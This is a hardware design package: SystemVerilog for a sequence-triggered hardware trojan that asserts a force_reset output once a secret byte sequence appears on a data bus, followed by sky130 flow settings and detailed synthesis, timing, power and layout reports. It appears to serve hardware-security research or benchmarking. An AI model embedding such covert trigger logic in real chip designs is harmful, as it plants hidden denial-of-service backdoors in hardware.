===== src/rtl/trojan_seq_trigger.sv =====
// Sequence-triggered payload: matches SEQ_LEN ordered values, then pulses or latches force_reset.
// Define TROJAN_GAP_TIMEOUT_EN to bound idle cycles between matched elements by MAX_GAP.
module trojan_seq_trigger #(
  parameter int DATA_WIDTH = 8,
  parameter int SEQ_LEN = 4,
  parameter logic [SEQ_LEN*DATA_WIDTH-1:0] SEQ_VALUES =
    {8'h0F, 8'hF0, 8'h55, 8'hAA},
  parameter int MODE = 0,
  parameter int PULSE_CYCLES = 4,
  parameter int COOLDOWN_CYCLES = 16,
  parameter int COUNT_WIDTH = 4,
  parameter int MAX_GAP = 2
) (
  input  logic                   clk,
  input  logic                   rst,
  input  logic [DATA_WIDTH-1:0]  data_in,
  input  logic                   data_valid,
  output logic                   force_reset,
  output logic                   armed,
  output logic [COUNT_WIDTH-1:0] trigger_count
);

  localparam int IW = $clog2(SEQ_LEN);
  localparam int TMAX = (PULSE_CYCLES > COOLDOWN_CYCLES) ?
                        PULSE_CYCLES : COOLDOWN_CYCLES;
  localparam int TW = $clog2(TMAX + 1);
  localparam logic [IW-1:0] LAST = IW'(SEQ_LEN - 1);
  localparam logic [TW-1:0] PULSE_END = TW'(PULSE_CYCLES - 1);
  localparam logic [TW-1:0] COOL_END = TW'(COOLDOWN_CYCLES - 1);

  if ((SEQ_LEN < 2) || (PULSE_CYCLES < 1) ||
      (COOLDOWN_CYCLES < 0) || (MAX_GAP < 0) ||
      (MODE < 0) || (MODE > 1)) begin : g_bad_param
    $error("trojan_seq_trigger: illegal parameter value");
  end

  typedef enum logic [1:0] {
    S_ARMED,
    S_FIRE,
    S_COOL
  } state_e;

  logic [DATA_WIDTH-1:0] seq_arr [SEQ_LEN];

  for (genvar k = 0; k < SEQ_LEN; k++) begin : g_seq
    assign seq_arr[k] = SEQ_VALUES[k*DATA_WIDTH +: DATA_WIDTH];
  end

  state_e                 state_q, state_d;
  logic [IW-1:0]          idx_q, idx_d;
  logic [TW-1:0]          timer_q, timer_d;
  logic                   force_q, force_d;
  logic                   armed_q, armed_d;
  logic [COUNT_WIDTH-1:0] count_q, count_d;
  logic                   hit, first;

`ifdef TROJAN_GAP_TIMEOUT_EN
  localparam int GW = $clog2(MAX_GAP + 2);
  localparam logic [GW-1:0] GAP_END = GW'(MAX_GAP);
  logic [GW-1:0] gap_q, gap_d;
`endif

  always_comb begin
    hit     = (data_in == seq_arr[idx_q]);
    first   = (data_in == seq_arr[0]);
    state_d = state_q;
    idx_d   = idx_q;
    timer_d = timer_q;
    force_d = force_q;
    armed_d = armed_q;
    count_d = count_q;
`ifdef TROJAN_GAP_TIMEOUT_EN
    gap_d   = '0;
`endif
    unique case (state_q)
      S_ARMED: begin
        if (data_valid) begin
          if (hit && (idx_q == LAST)) begin
            state_d = S_FIRE;
            force_d = 1'b1;
            armed_d = 1'b0;
            idx_d   = '0;
            timer_d = '0;
            if (count_q != '1) begin
              count_d = count_q + COUNT_WIDTH'(1);
            end
          end else if (hit) begin
            idx_d = idx_q + IW'(1);
          end else if (first) begin
            idx_d = IW'(1);
          end else begin
            idx_d = '0;
          end
        end
`ifdef TROJAN_GAP_TIMEOUT_EN
        else if (idx_q != '0) begin
          // a gap one longer than MAX_GAP abandons the partial match
          if (gap_q == GAP_END) begin
            idx_d = '0;
          end else begin
            gap_d = gap_q + GW'(1);
          end
        end
`endif
      end
      S_FIRE: begin
        if (MODE == 0) begin
          if (timer_q == PULSE_END) begin
            force_d = 1'b0;
            timer_d = '0;
            if (COOLDOWN_CYCLES == 0) begin
              state_d = S_ARMED;
              armed_d = 1'b1;
            end else begin
              state_d = S_COOL;
            end
          end else begin
            timer_d = timer_q + TW'(1);
          end
        end
      end
      S_COOL: begin
        if (timer_q == COOL_END) begin
          state_d = S_ARMED;
          armed_d = 1'b1;
          timer_d = '0;
        end else begin
          timer_d = timer_q + TW'(1);
        end
      end
      default: begin
        state_d = S_ARMED;
        idx_d   = '0;
        timer_d = '0;
        force_d = 1'b0;
        armed_d = 1'b1;
      end
    endcase
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q <= S_ARMED;
      idx_q   <= '0;
      timer_q <= '0;
      force_q <= 1'b0;
      armed_q <= 1'b1;
      count_q <= '0;
`ifdef TROJAN_GAP_TIMEOUT_EN
      gap_q   <= '0;
`endif
    end else begin
      state_q <= state_d;
      idx_q   <= idx_d;
      timer_q <= timer_d;
      force_q <= force_d;
      armed_q <= armed_d;
      count_q <= count_d;
`ifdef TROJAN_GAP_TIMEOUT_EN
      gap_q   <= gap_d;
`endif
    end
  end

  assign force_reset   = force_q;
  assign armed         = armed_q;
  assign trigger_count = count_q;

endmodule


===== config.mk =====
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq_trigger
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_seq_trigger.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_MARGIN = 1
export CORE_UTILIZATION = 40
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 6
export GPL_TIMING_DRIVEN = 0
export HOLD_SLACK_MARGIN = 0.06
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit

===== constraint.sdc =====
create_clock -name clk -period 2.1 [get_ports clk]
set_input_delay 0.42 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.42 -clock clk [all_outputs]
set_load 0.02 [all_outputs]

Word level (Yosys, flattened, before mapping):

Cells that the tools add are included.

* add/subtract/negate cells: 3
* bitwise gates (word level): 4
* magnitude comparators: 1
* eq/ne operators: 12
* muxes and demuxes: 26
* reduce and logical (&&, ||, !) cells: 9

Operators by type and width (number)
* 2-to-1 mux 5 bit: 4
* binary-select mux 8 bit (select 2 bit): 1
* 2-to-1 mux 8 bit: 2
* AND reduction 4 bit: 4
* one-hot mux 5 bit (3 select lines): 1
* 2-to-1 mux 2 bit: 7
* == test 8 bit: 1
* == test 8 bit, second input constant: 1
* != test 2 bit, second input constant: 4
* 2-to-1 mux 1 bit: 7
* one-hot mux 1 bit (3 select lines): 2
* one-hot mux 2 bit (3 select lines): 1
* adder 5 x 1 -> 5 bit, second input constant: 1
* == test 5 x 2 -> 1 bit, second input constant: 1
* == test 5 x 4 -> 1 bit, second input constant: 1
* adder 4 x 1 -> 4 bit, second input constant: 1
* == test 2 bit, second input constant: 2
* != test 4 bit, second input constant: 1
* one-hot mux 2 bit (2 select lines): 1
* AND reduction 2 bit: 2
* greater-or-equal comparator 3 bit, second input constant: 1
* inverter 1 bit: 3
* inverter 2 -> 3 bit: 1
* adder 2 x 1 -> 2 bit, second input constant: 1
* 4 further kinds: 4

* bits of input ports: 11
* register bits: 15
* output and inout bits: 6
* word-level logic and storage cells: 61

Longest topological paths before layout:

* depth in word-level cells: 9
* mapped depth: 9
* depth with buffers taken out: 9

Worst setup path before layout:

OpenSTA, ideal clock, no wires.

* kind: register to register
* start point: register idx_q[0]
* end point: register count_q[1], in the netlist trigger_count[1]
* library setup time: 128 ps
* data required time: 1972 ps
* arrival time: 1925 ps
* clock period less this slack: 2052 ps
* stages on the path, launching flop included: 7
* setup slack: 48 ps
* buffers on the path: 0
* path through: dfrtp_1 inv_1 ha_1 and4bb_2 a2bb2oi_4 nor4_4 mux2_1

* word-level cells in the longest chain between the ends: 7
* elaborated cells on any way between the ends: 8
* classes of those cells: eq/ne: 2; mux: 3; bitwise: 1; reduce/logical: 2

Ends and longest elaborated chain
* from (decl): line 50 `logic [IW-1:0] idx_q, idx_d;`
* from (signal assigned): line 154 `idx_q <= idx_d;`
* inverter 2 -> 3 bit (not written as such): line 64 `hit = (data_in == seq_arr[idx_q]);`
* binary-select mux 8 bit (select 2 bit): line 64
* 2-to-1 mux 8 bit (not written as such) (2 in series): line 64
* == test 8 bit: line 64
* logical AND 1 bit *: line 78 `if (hit && (idx_q == LAST)) begin`
* AND reduction 4 bit (no line) *
* to (signal assigned): line 158 `count_q <= count_d;`
* to (decl): line 54 `logic [COUNT_WIDTH-1:0] count_q, count_d;`

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

Final worst setup path:

Same ends and word-level chain as after synthesis.

==> results_dict.tcl <==
set metrics [dict create \
    grt_setup_unrepaired "no" \
    rows 18 \
    leakagePower_uw 0.000566 \
    place_congestion 0.712 \
    syn_inst 101 \
    cp.depth 6 \
    drc 0 \
    vias_per_cell 5.41 \
    h-tree-depth 1 \
    vias 844 \
    relSlewSlack_pct 60.8 \
    grt_pass1_vias 769 \
    status "complete, no violations" \
    nets 148 \
    ys_ff_latch 15 \
    drv_cap 0 \
    ys_types 43 \
    powerDensity_nw_per_um2 635 \
    yosysWarnings 0 \
    power.total_uw 883 \
    cp_cell_sequence "inv_1 -> ha_2 -> nor4_4 -> o22ai_4 -> nor4_4 -> mux2_4" \
    grtUsageTotal_pct 16.7 \
    path_buf_inv 1 \
    numCtsBuffers 3 \
    end_kind "flip-flop" \
    initial_core_util_pct 43.1 \
    die_x_um 54.4 \
    clockBufferDepth 2 \
    num_antenna_cells 0 \
    finalCritPeriodShare_pct 93.9 \
    period_needed_ns 1.97 \
    routed-wl-met2_um 953 \
    port_buffers 16 \
    intPower_uw 554 \
    critPathLaunch "idx_q[0]$_DFFE_PP0P_" \
    fmax_ghz 0.507 \
    power.share.sequential_pct 37.8 \
    cp.arrival_ns 2.16 \
    io_pins 17 \
    finalSetupTns_ns 0 \
    synth.avg_cell_area_um2 10.9 \
    core_area_um2 2540 \
    antenna_found_initial 0 \
    finClkSkew_ns 0.00102 \
    r2r_cells 6 \
    highest_layer "met4" \
    fp.dieH_um 54.4 \
    drive_gt1_share_pct 24.6 \
    synth.most_common_cell "dfrtp_1" \
    p_switching_uw 329 \
    synthTopCellsByCount "dfrtp_1, ha_1, inv_1, nand2_1, o21ai_1" \
    setup_viol 0 \
    grt_max_degree 16 \
    routed_wl_um 2150 \
    root_buffer "clkbuf_4" \
    syn-num-nets 122 \
    p_clk_share_pct 21.3 \
    grt_pass1_wl_um 3460 \
    swShare_pct 37.2 \
    ir_drop_v 0.000436 \
    rrSetupSlack_ns 0.13 \
    insertion_delay_ns 0.29 \
    cts_tree "yes" \
    min_path_type "in2async" \
    setup.worst_path.end "trigger_count[1]$_DFFE_PP0P_" \
    netlist.area_leader.share_pct 31.9 \
    synth_edf_count 0 \
    r2r_start "idx_q[0]$_DFFE_PP0P_" \
    seq_area_frac_synth_pct 34.3 \
    synth_ff_type "dfrtp_1" \
    worst_pin_slew_ns 0.587 \
    synthToLayoutAreaGrowth_pct 26.7 \
    synthArstFlopShare_pct 100 \
    postCtsHoldBufs 0 \
    die_area_um2 2960 \
    synth_top_area_cell "dfrtp_1" \
    final-max-slew-violation-count 0 \
    clk_pin_slew_worst_paths_ns 0.09 \
    slowest_stage "nor4_4" \
    critPathMostFrequentCell "nor4_4" \
    wl_met1_um 1110 \
    detail-route-antenna-nets 0 \
    hold_violations 0 \
    cp_max_fo 5 \
    syn_area_um2 1100 \
    dr_wl_met3_um 65 \
    drt_iter0_markers 12 \
    path_class "reg2reg" \
    dr.pass1.iters 4 \
    worstReg2RegEnd "trigger_count[1]$_DFFE_PP0P_" \
    synth_area_leaders "dfrtp_1, ha_1, nor4_4" \
    cts.sinks 15 \
    wire_per_inst_um 13.8 \
    globalRouteOverflowTotal 0 \
    cp.required_ns 2.28 \
    startpoint_type "flip-flop" \
    crit_family "simple AND/OR/NAND/NOR gates" \
    dp_hpwl_um 1570 \
    crit_path_max_incr_delay_ns 0.40 \
    combPwrFrac_pct 40.9 \
]
-- power by group through the flow --
stage | combinational, uW | sequential, uW | clock, uW
2_1_floorplan | 255 | 334 | 0
3_3_place_gp | 334 | 339 | 0
3_5_place_dp | 337 | 340 | 0
4_1_cts | 340 | 333 | 197
5_1_grt | 400 | 336 | 205
6_report | 361 | 334 | 188
-- sequential cells by signal, summed over array words and instances, names as in the netlist --
name	flops
armed	1
force_reset	1
idx_q	2
state_q	2
timer_q	5
trigger_count	4
-- layout by cell type (no fill, tap or decap), types with 3 or more instances in the layout --
master           synthesis  routed
clkdlybuf4s50_1          0      16
dfrtp_1                 14      13
inv_1                   10      10
clkbuf_4                 0       4
nand2b_1                 3       3
nand2_1                 10      10
nand3_1                  5       5
o21ai_1                  6       6
buf_4                    1       5
ha_1                    10       8
-- cell type report --
type                            instances  area (um^2)
Clock buffer                            4         30.0
Multi-Input combinational cell         74          693
Fill cell                             234         1150
Timing Repair Buffer                   21          195
Buffer                                  2         18.8
Sequential cell                        15          378
Inverter                               10         37.5
Tap cell                               30         37.5
-- metal layers --
layer / vias to the layer above / track usage [%]
met1: 404 / 22.3
li1: 422 / -
met5: - / 0
met3: 5 / 5.00
met4: 0 / 3.85
met2: 13 / 26.2
-- cells by family (layout without fill, tap and decap cells) --
family | after synthesis | after routing | synth area share, %
flip-flops | 15 | 15 | 34.3
adder cells (fa/ha/maj) | 10 | 10 | 11.4
buffers and inverters | 12 | 37 | 5.13
XOR/XNOR | 3 | 3 | 2.39
AO/OA/AOI/OAI | 23 | 23 | 19.0
AND/OR/NAND/NOR | 36 | 36 | 25.8
multiplexers | 2 | 2 | 1.94
-- what timing repair did --
action / 4_1_cts / 5_1_grt
cloned: 0 / 1
setup endpoints to repair: 12 / 4
resized for setup: 1 / 6
buffers inserted: 2 / 2
pin swaps: 1 / 4
-- how the worst min path moves through the flow --
stage,slack (ns),cells after the start,endpoint,start
floorplan,0.32,1,force_reset$_DFFE_PP0P_,rst
CTS,0.50,2,armed$_DFFE_PP1P_,armed$_DFFE_PP1P_
detailed placement,0.49,2,armed$_DFFE_PP1P_,armed$_DFFE_PP1P_
global placement,0.47,2,armed$_DFFE_PP1P_,armed$_DFFE_PP1P_
global route,0.51,2,armed$_DFFE_PP1P_,armed$_DFFE_PP1P_
finish,0.48,2,trigger_count[1]$_DFFE_PP0P_,rst
-- stage by stage --
stage	hold slack, ns	worst slack, ns	util (%)	cells	area, um^2
global placement	0.474	-0.128	50.9	147	1290
global route	0.511	0.00463	54.6	156	1390
floorplan	0.321	0.0480	-	101	1100
detailed placement	0.489	-0.168	50.9	147	1290
finish	0.477	0.128	54.6	156	1390
CTS	0.503	0.0217	52.7	153	1340
Power figures use the tool's default switching activity.
